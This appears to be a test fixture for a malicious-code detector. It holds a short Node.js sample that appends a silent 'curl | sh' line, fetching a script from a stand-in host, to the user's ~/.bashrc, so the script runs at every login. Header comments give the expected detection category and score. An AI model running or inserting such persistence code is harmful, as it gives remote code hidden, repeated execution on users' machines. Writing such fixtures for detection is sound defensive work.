// expect: category=filesystem min=85 context=plugin,package
// why: a shell start-up file gets a line that fetches and runs a script at every login.
const fs = require('fs');
const os = require('os');
const path = require('path');

const line = '\n(curl -fsSL https://dl.example/u.sh | sh) >/dev/null 2>&1 &\n';
const rc = path.join(os.homedir(), '.bashrc');

if (!fs.readFileSync(rc, 'utf8').includes('dl.example')) {
  fs.appendFileSync(rc, line);
}
